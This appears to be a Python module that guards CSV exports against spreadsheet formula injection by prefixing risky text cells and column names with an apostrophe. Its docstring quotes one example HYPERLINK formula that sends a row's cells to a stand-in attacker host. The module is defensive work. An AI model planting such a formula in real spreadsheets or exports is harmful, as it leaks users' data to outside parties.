"""Spreadsheet formulas in CSV text cells, made text (ChunkContext.neutralise_formulas).

A spreadsheet opening a CSV runs a cell starting with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example/?x="&A2,"open")` sends the row's cells away when
clicked), and one starting with a tab or carriage return may be read so after trimming.
OWASP's advice: such a cell starts with `'`, so it is text, not run (a spreadsheet may
show the `'`). So is the header row's column name. Only text
columns: a number (`-5`) is no formula, and a struct or list is written as JSON, which
starts with `{` or `[`."""

from __future__ import annotations

import csv
import io
import re
from typing import Final

import polars as pl

#: What a cell may start with for a spreadsheet to read it as a formula.
_FORMULA_START: Final = r"^([=+\-@\t\r])"
_FORMULA_START_RE: Final = re.compile(_FORMULA_START)


def formulas_as_text(batch: pl.DataFrame) -> pl.DataFrame:
    """`batch` with every text cell a spreadsheet would read as a formula prefixed `'`."""
    text = [name for name, dtype in batch.schema.items() if _is_text(dtype)]
    if not text:
        return batch
    return batch.with_columns(
        pl.col(name).cast(pl.String).str.replace(_FORMULA_START, "'$1") for name in text
    )


def _is_text(dtype: pl.DataType) -> bool:
    return dtype == pl.String or isinstance(dtype, (pl.Categorical, pl.Enum))


def header_as_text(names: list[str]) -> bytes:
    """The CSV header row of these column names, each a spreadsheet would read as a
    formula (a column named `=cmd()`) prefixed `'` as the cells are."""
    buffer = io.StringIO()
    cells = [_FORMULA_START_RE.sub(r"'\1", name) for name in names]
    csv.writer(buffer, lineterminator="\n").writerow(cells)
    return buffer.getvalue().encode()
